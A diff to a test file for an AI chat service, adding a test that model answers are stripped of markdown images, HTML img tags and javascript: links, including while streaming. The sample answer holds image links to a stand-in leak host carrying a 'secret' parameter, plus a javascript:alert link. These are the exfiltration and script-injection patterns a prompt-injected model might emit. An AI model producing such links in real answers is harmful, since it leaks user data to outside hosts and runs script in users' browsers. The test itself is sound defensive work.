@@ -54,6 +54,20 @@ test('a model that obeys instructions in a record reaches only what the caller m
   t.true(service.logged.some((line) => line.includes('AI tool call refused')));
 });
 
+test('images, HTML and links that run code are removed from an answer, also while it streams', async (t) => {
+  const ada = await service.signedIn();
+  const { id } = (await ada.post('/ai/threads', {})).json;
+  const question = 'Show the leak?';
+  const written = 'See ![x](http://leak.test/?d=secret) <img src="http://leak.test/?d=secret"> [a](javascript:alert(1)) [b](https://example.org/) end';
+  stub.plays(question, { text: written.split(/(?<=[!<(])/) });
+  const source = await ada.stream(`/ai/threads/${id}/messages`, { method: 'POST', body: { content: question } });
+  await source.ended;
+  const deltas = source.received.filter(({ event }) => event === 'delta').map(({ data }) => JSON.parse(data).text);
+  const [, answer] = (await ada.get(`/ai/threads/${id}/messages`)).json.items;
+  t.is(answer.content, 'See x  a [b](https://example.org/) end');
+  t.is(deltas.join(''), answer.content);
+});
+
 test("another account's thread cannot be read, continued, streamed or cancelled, and its records cannot be a context", async (t) => {
   const [ada, eve] = [await service.signedIn(), await service.signedIn()];
   const { id } = (await ada.post('/ai/threads', {})).json;
